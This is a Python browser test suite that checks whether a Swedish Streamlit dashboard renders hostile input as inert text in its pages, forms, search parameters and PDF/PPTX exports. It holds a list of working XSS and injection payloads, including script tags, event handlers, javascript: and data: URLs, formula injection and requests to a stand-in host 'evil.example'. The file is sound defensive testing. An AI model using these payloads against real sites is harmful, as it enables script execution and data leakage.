"""Hostile text in every free-text field, shown everywhere it is shown, must stay inert text.

Each payload tries to leave a marker: an alert/confirm (`dialog` event), `window.__pwn = N`, an
element with id `pwn-N`, or a request off the machine (a Markdown image or CSS import; the
offline page blocks and records it). Most payloads go in through the store API, as another
user of the same database would put them there; the reform form and the activity form are
also driven in the browser to prove the form path. Then every page that shows the text is
visited (and its iframes searched), and the meeting's PDF/PPTX are built and read back.
"""
from __future__ import annotations

import io
import re
from datetime import date
from urllib.parse import quote

import pytest

from lagesbild.domain import Actor, ActivityStatus, ReformStatus, Role
from lagesbild.store import meetings as mt
from lagesbild.store.activities import ActivityInput, create_activity
from lagesbild.store.db import Store
from lagesbild.store.models import Reform
from lagesbild.store.reforms import UpdateInput, record_update
from tests.browser.conftest import choose_option, own_server_fixtures, wait_ready

pytestmark = pytest.mark.browser

EVIL = "http://evil.example"  # any request to it is blocked and recorded
PAYLOADS = [
    "<script>window.__pwn=1</script>",
    "<img src=x onerror=\"window.__pwn=2\">",
    "<svg onload=alert(3)>",
    "[klicka här](javascript:alert(4))",
    "\"><b id=pwn-5>fet</b>",
    "'><img id=pwn-6 src=x onerror=alert(6)>",
    "<iframe src=\"javascript:alert(7)\"></iframe>",
    "$\\href{javascript:alert(8)}{klicka}$",
    ":red[röd text] :material/warning: :rainbow[regnbåge]",
    "\u202eRTL-överstyrning\u202c och \u200bnollbredd",
    "=HYPERLINK(\"" + EVIL + "/?\"&A1;\"klicka\")",
    f"![bild]({EVIL}/pixel-12.png)",
    "<a id=pwn-13 href=\"javascript:alert(13)\">länk</a>",
    "<details open ontoggle=alert(14)>",
    f"<style>@import '{EVIL}/x-15.css';</style>",
    "</script><script>window.__pwn=16</script>",
    "</textarea><img src=x onerror=alert(17)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>",
    "javascript:alert(19)",
    "<object data=\"javascript:alert(20)\"></object>",
    "<input autofocus onfocus=alert(21)>",
    "`<img src=x onerror=alert(22)>`",
    "<div id=\"pwn-23\" style=\"position:fixed;inset:0\">täcker sidan</div>",
    "&lt;img src=x onerror=alert(24)&gt;",
    "<a id=pwn-25 href=\"data:text/html,<script>alert(25)</script>\">data</a>",
    "<svg><animate onbegin=alert(26) attributeName=x dur=1s>",
    "${alert(27)} {{constructor.constructor('alert(27)')()}}",
    "'-alert(28)-' \\\"};alert(28);//",
    f"<base href=\"{EVIL}/\">",
    "<div>\n\n<img src=x onerror=alert(30)>\n\n</div>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(32)>\">",
    "# Rubrik\n- lista\n> citat\n1. numrerad\n---",
    "+1+1 -2+3 @SUM(A1)",
    "\t=1+1",
    "Lång text " + "åäö<b>x</b> " * 300,
]
# Source links must be http(s) without spaces: attribute and Markdown breakouts that still pass.
URL_PAYLOADS = [
    "https://example.org/\"><svg/onload=alert(41)>",
    "https://example.org/?q=<script>window.__pwn=42</script>",
    "https://example.org/#\"onmouseover=\"alert(43)",
    "https://example.org/)![x](" + EVIL + "/pixel-44.png",
    "https://example.org/'><img/id=pwn-45/src=x/onerror=alert(45)>",
]
EDITOR = Actor("Testredaktör", Role.EDITOR, reform_editor=True)
REFORM = "R05"  # the history of this reform gets every payload
AREA = "prio-flemingsberg"
N_ITEMS = 4  # agenda items with payload titles (each is a presentation page to visit)


def fit(text: str, lo: int, hi: int) -> str:
    """The payload within a field's length limits (padded with inert text, or cut)."""
    text = text if len(text.strip()) >= lo else text + " (fyllnadstext)"
    return text[:hi]


# Its own server and database: its payloads must not leak into the other browser tests,
# which share one app and expect its seeded state.
own_app, app_url, app_db_url = own_server_fixtures("hostile-app")


@pytest.fixture(scope="module")
def hostile(app_db_url) -> dict:
    """Every payload in every field, through the store (as another user would write them)."""
    store = Store.open(app_db_url)
    counts = {}
    with store.transaction() as s:
        version = s.get(Reform, REFORM).version
        for n, p in enumerate(PAYLOADS + URL_PAYLOADS):
            url = URL_PAYLOADS[n % len(URL_PAYLOADS)]
            record_update(s, EDITOR, REFORM, version, UpdateInput(
                ReformStatus.PAGAENDE, date(2026, 1, 1 + n % 28), fit(p, 10, 4000), url, fit(p, 1, 200)))
            version += 1
        counts["reform: motivering, bedömd av"] = len(PAYLOADS + URL_PAYLOADS)
        counts["reform: källa"] = len(URL_PAYLOADS)
        for n, p in enumerate(PAYLOADS):
            create_activity(s, EDITOR, ActivityInput(
                title=fit(p, 3, 300), partner_id="polisen_syd", focus_area_id="trygghet", status=ActivityStatus.PAGAENDE,
                description=fit(p, 0, 4000), district_code=AREA, follow_up=fit(p, 0, 4000), external_id=f"fientlig-{n}"))
        counts["aktivitet: titel, beskrivning, uppföljning"] = len(PAYLOADS)
        mid = mt.create_meeting(s, EDITOR, mt.MeetingInput(fit(PAYLOADS[1] + " " + PAYLOADS[11], 3, 300), date(2026, 12, 1),
                                                          ("polisen_syd",)))
        for n, p in enumerate(PAYLOADS[:N_ITEMS], start=1):
            mt.add_item(s, EDITOR, mid, n, mt.ItemInput(fit(p, 2, 300), "reformer", {"status": ["pagaende"]}))
        items = mt.get_meeting(s, mid).items
        for n, p in enumerate(PAYLOADS):
            mt.add_action(s, EDITOR, mid, mt.ActionInput("beslut" if n % 2 else "atgard", fit(p, 3, 2000), fit(p, 1, 200),
                                                         agenda_item_id=items[n % N_ITEMS].id if n % 3 else None))
        counts["möte: titel"] = 1
        counts["möte: punktrubrik"] = N_ITEMS
        counts["möte: beslut/åtgärd, vem"] = len(PAYLOADS)
    store.engine.dispose()
    return {"meeting": mid, "counts": counts}


# --- watching a page -------------------------------------------------------------------------

MARKERS_JS = """() => ({pwn: window.__pwn === undefined ? null : String(window.__pwn),
                       ids: [...document.querySelectorAll('[id^="pwn-"]')].map(e => e.id)})"""


class Watch:
    """Dialogs, console errors and page errors of one page, and its markers in every frame."""

    def __init__(self, page):
        self.page, self.dialogs, self.errors = page, [], []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("pageerror", lambda e: self.errors.append(f"pageerror: {e}"))
        page.on("console", lambda m: self.errors.append(f"console: {m.text} @ {m.location.get('url', '')}")
                if m.type == "error" else None)

    def markers(self) -> list[str]:
        found = []
        for frame in self.page.frames:
            try:
                got = frame.evaluate(MARKERS_JS)
            except Exception:  # a frame that went away while we looked
                continue
            found += ([f"window.__pwn={got['pwn']}"] if got["pwn"] else []) + got["ids"]
        return found

    def check(self, where: str) -> None:
        self.page.wait_for_timeout(400)  # let onload/onerror/autofocus handlers fire if they exist
        outside = [u for u, _f in self.page.blocked if "materialsymbolsrounded" not in u]
        # Streamlit probes <page>/_stcore/health before the root one: a 404 that is always there.
        errors = [e for e in self.errors if "materialsymbolsrounded" not in e and "/_stcore/" not in e]
        assert not self.dialogs, f"{where}: a dialog opened: {self.dialogs}"
        assert not self.markers(), f"{where}: a payload ran: {self.markers()}"
        assert not outside, f"{where}: a payload made a request off the machine: {outside}"
        assert not errors, f"{where}: console errors: {errors}"


def _open(page, url: str) -> None:
    """Wait for the script run to finish (the status widget shows only after a delay, so its
    absence said nothing on a busy machine)."""
    page.goto(url)
    page.locator("h1").first.wait_for()
    page.locator('[data-testid="stApp"][data-test-script-state="notRunning"]').wait_for(timeout=90_000)


# --- the pages that show the text ------------------------------------------------------------


def test_payloads_stay_text_on_every_page(offline_page, app_url, hostile, artifacts):
    page, mid = offline_page, hostile["meeting"]
    watch = Watch(page)
    visits = [
        (f"/reformer?reform={REFORM}", "Reformer: historik"),
        ("/reformer", "Reformer: listan"),
        ("/fokusomraden?fokus=trygghet", "Fokusområden: aktiviteter"),
        ("/", "Översikt: senaste aktiviteterna"),
        (f"/omraden?omrade={AREA}", "Områden: profil"),
        ("/karta", "Karta"),
        (f"/mote?mote={mid}", "Mötesläge"),
    ] + [(f"/mote?mote={mid}&presentation=1&punkt={n}", f"presentation punkt {n}") for n in range(1, N_ITEMS + 1)]
    for path, where in visits:
        _open(page, app_url + path)
        watch.check(where)
        if where == "Reformer: historik":
            for p in ("<script>window.__pwn=1</script>", "$\\href{javascript:alert(8)}{klicka}$", "[klicka här](javascript:alert(4))"):
                page.get_by_text(p).locator("visible=true").first.wait_for()  # shown literally, as text
            page.screenshot(path=str(artifacts / "hostile-reform-history.png"), full_page=False)
        if where == "Mötesläge":
            for p in (PAYLOADS[11], PAYLOADS[2]):  # in the meeting title and agenda item 3 (the visible tab)
                page.get_by_text(p).locator("visible=true").first.wait_for()
            page.screenshot(path=str(artifacts / "hostile-mote.png"), full_page=False)


# The short payloads, each in one of the four places a URL or search box carries text (run time).
SEARCHABLE = [p for p in PAYLOADS if len(p) < 200][::3]


def test_search_and_filter_inputs_and_url_parameters(offline_page, app_url, hostile):
    """The search boxes and every text the URL carries into a page (a shared link)."""
    page = offline_page
    watch = Watch(page)
    for n, p in enumerate(SEARCHABLE):
        q = quote(p, safe="")
        path = [f"/reformer?sok={q}", f"/fokusomraden?fokus=trygghet&akt_sok={q}&akt_fran={q}",
                f"/omraden?omrade={q}", f"/fokusomraden?fokus={q}"][n % 4]
        _open(page, app_url + path)
        watch.check(f"{path[:40]} (payload {n})")
    hostile["counts"]["sök/filter/URL (sok, akt_sok, akt_fran, omrade, fokus)"] = len(SEARCHABLE)
    _open(page, app_url + "/reformer")
    box = page.get_by_label("Sök", exact=False).first
    box.fill(PAYLOADS[4])
    box.press("Enter")
    page.wait_for_timeout(1500)
    watch.check("Reformer: sökrutan")


# --- the forms --------------------------------------------------------------------------------


def test_reform_form_stores_payloads_as_text(offline_page, app_url, artifacts):
    page = offline_page
    watch = Watch(page)
    _open(page, app_url + "/reformer?reform=R06")
    page.get_by_text("Registrera en ny bedömning").click()
    choose_option(page, page.locator('[data-testid="stSelectbox"]').filter(has_text="Status").first,
                  re.compile("Pågående"))
    page.get_by_role("textbox", name="Motivering").fill(PAYLOADS[1] + " " + PAYLOADS[3])
    page.get_by_role("textbox", name=re.compile("Källänk")).fill(URL_PAYLOADS[0])
    page.get_by_role("textbox", name="Bedömd av").fill(PAYLOADS[4])
    page.get_by_role("button", name=re.compile("Spara bedömningen")).click()
    page.get_by_text("Bedömningen är sparad").wait_for()
    page.get_by_text(PAYLOADS[1] + " " + PAYLOADS[3]).filter(visible=True).first.wait_for()  # saved, shown as text
    watch.check("Reformer: formuläret")
    page.screenshot(path=str(artifacts / "hostile-reform-form.png"))


def test_activity_form_stores_payloads_as_text(offline_page, app_url, app_db_url):
    page = offline_page
    watch = Watch(page)
    _open(page, app_url + "/fokusomraden?fokus=trygghet")
    page.get_by_text("Lägg till eller ändra en aktivitet").click()
    page.get_by_role("textbox", name="Titel", exact=True).fill(PAYLOADS[2] + " form")
    page.get_by_role("textbox", name="Beskrivning", exact=True).fill(PAYLOADS[0])
    page.get_by_role("textbox", name=re.compile("Uppföljning")).fill(PAYLOADS[11])
    page.get_by_role("button", name="Spara").first.click()
    page.get_by_text("Aktiviteten är sparad").wait_for(timeout=90_000)  # a fixed pause was too short on a busy machine
    wait_ready(page)
    watch.check("Fokusområden: aktivitetsformuläret")
    store_title = PAYLOADS[2] + " form"
    from sqlalchemy import select

    from lagesbild.store.models import Activity

    store = Store.open(app_db_url)
    with store.session() as s:
        row = s.scalars(select(Activity).where(Activity.title == store_title)).first()
    store.engine.dispose()
    assert row is not None and row.description == PAYLOADS[0] and row.follow_up == PAYLOADS[11]


# --- the pre-read ----------------------------------------------------------------------------


def test_meeting_pdf_and_pptx_carry_the_payloads_literally(app_db_url, hostile):
    """Built without chart images (the text is what matters here, and kaleido is slow)."""
    from pptx import Presentation
    from pypdf import PdfReader

    from lagesbild.export.meeting_pack import export_data
    from lagesbild.export.pdf import meeting_pdf
    from lagesbild.export.pptx import meeting_pptx
    from lagesbild.picture import load_live

    store = Store.open(app_db_url)
    with store.session() as s:
        m, ctx, pic = mt.get_meeting(s, hostile["meeting"]), mt.context(s, hostile["meeting"]), load_live(s)
    store.engine.dispose()
    data = export_data(pic, m, ctx, {"polisen_syd": "Polisen"})
    # Compared without white space: the PDF wraps long cells where the text had none.
    pdf_text = re.sub(r"\s+", "", "".join(p.extract_text() for p in PdfReader(io.BytesIO(meeting_pdf(data))).pages))
    deck = Presentation(io.BytesIO(meeting_pptx(data)))
    pptx_text = re.sub(r"\s+", "", "".join(sh.text_frame.text for sl in deck.slides for sh in sl.shapes if sh.has_text_frame))
    for p in (PAYLOADS[0], PAYLOADS[3], PAYLOADS[11]):  # agenda item titles and the meeting title
        assert re.sub(r"\s+", "", p) in pdf_text, p
        assert re.sub(r"\s+", "", p) in pptx_text, p
    total = sum(hostile["counts"].values())
    print(f"\n{len(PAYLOADS)} payloads (+{len(URL_PAYLOADS)} link payloads); fields × payloads: {hostile['counts']} = {total}")
